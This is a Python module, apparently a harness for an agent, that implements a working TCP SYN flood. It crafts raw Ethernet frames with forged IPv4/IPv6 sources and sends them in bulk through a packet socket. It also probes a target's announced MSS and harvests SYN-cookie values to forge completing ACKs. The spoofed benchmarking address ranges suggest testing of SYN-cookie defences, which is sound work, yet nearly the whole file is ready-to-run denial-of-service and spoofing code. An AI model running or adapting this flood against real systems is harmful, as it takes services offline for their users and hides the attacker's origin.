# SPDX-License-Identifier: MIT
"""A SYN flood with forged sources, by a packet socket, for the agent: frames are made beforehand and
sent round and round. Sources: 198.19.0.0/16, fd00:198:19::/64."""
import ipaddress
import random
import socket
import struct
import time

LINUX_OPTIONS = bytes.fromhex("020405b40402080a0000000100000000" "01030307")


def _sum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def tcp_frame(macs, source, target, ports, flags=2, numbers=(1, 0), options=LINUX_OPTIONS, data=b""):
    """A whole Ethernet frame. macs: (of the target, own); addresses: texts of one family."""
    source, target = ipaddress.ip_address(source).packed, ipaddress.ip_address(target).packed
    header = struct.pack("!HHIIBBHHH", *ports, *numbers, (20 + len(options)) // 4 << 4, flags,
                         64240, 0, 0) + options
    segment = header + data
    pseudo = source + target + struct.pack("!II", len(segment), socket.IPPROTO_TCP)
    checked = pseudo + segment + b"\0" * (len(segment) % 2)
    segment = segment[:16] + struct.pack("!H", _sum(checked)) + segment[18:]
    if len(source) == 4:
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 1, 0x4000, 64,
                         socket.IPPROTO_TCP, 0) + source + target
        ip = ip[:10] + struct.pack("!H", _sum(ip)) + ip[12:]
        return macs[0] + macs[1] + b"\x08\x00" + ip + segment
    ip = struct.pack("!IHBB", 6 << 28, len(segment), socket.IPPROTO_TCP, 64) + source + target
    return macs[0] + macs[1] + b"\x86\xdd" + ip + segment


def _source(number, ipv6):
    return f"fd00:198:19::{number:x}" if ipv6 else \
        str(ipaddress.ip_address("198.19.0.0") + number)


def _packet_socket(device):
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((device, 0))
    return sender


def flood(device, mac, target, port, seconds, at_most=1_000_000, frames=20_000, rate=None):
    """Sends SYNs from forged sources; how many it sent. rate: a second, at most."""
    with _packet_socket(device) as sender:
        macs = (bytes.fromhex(mac.replace(":", "")), sender.getsockname()[4])
        chance = random.Random(1)
        ready = [tcp_frame(macs, _source(chance.randrange(1, 65535), ":" in target), target,
                           (chance.randrange(1024, 65536), port),
                           numbers=(chance.randrange(1 << 32), 0)) for _ in range(frames)]
        began, sent = time.monotonic(), 0
        while sent < at_most and time.monotonic() - began < seconds:
            for _ in range(100):
                try:
                    sender.send(ready[sent % frames])
                except OSError:  # ENOBUFS: the queue is full
                    continue
                sent += 1
            if rate and sent / rate > time.monotonic() - began:
                time.sleep(sent / rate - (time.monotonic() - began))
        return sent


def send(device, mac, *frames):
    """Sends frames made by tcp_frame with no macs given: those are put in front here."""
    with _packet_socket(device) as sender:
        macs = bytes.fromhex(mac.replace(":", "")) + sender.getsockname()[4]
        for frame in frames:
            sender.send(macs + frame)


def _answer(device, mac, source, target, ports, options):
    """Sends a SYN; the TCP header and options of what answers it."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as peer:
        peer.bind((device, 0))
        peer.settimeout(5)
        macs = bytes.fromhex(mac.replace(":", "")), peer.getsockname()[4]
        peer.send(tcp_frame(macs, source, target, ports, options=options))
        while True:
            frame, (_, _, kind, *_) = peer.recvfrom(2000)
            tcp = frame[54 if frame[12:14] == b"\x86\xdd" else 34:]
            if kind != socket.PACKET_OUTGOING and tcp[:4] == struct.pack("!HH", *ports[::-1]):
                return tcp


def announced_mss(device, mac, source, target, ports, mss):
    """The MSS in what answers a SYN with this one."""
    tcp = _answer(device, mac, source, target, ports, struct.pack("!BBH", 2, 4, mss))
    return struct.unpack("!H", tcp[22:24])[0]


def gather(device, mac, source, target, ports):
    """The ACKs, for send, that would end handshakes by the cookies which these SYNs get."""
    acks = []
    for pair in ports:
        cookie, = struct.unpack("!I", _answer(device, mac, source, target, pair, LINUX_OPTIONS)[4:8])
        acks.append(tcp_frame((b"", b""), source, target, pair, 0x10, (2, (cookie + 1) & 0xffffffff),
                              b""))
    return acks
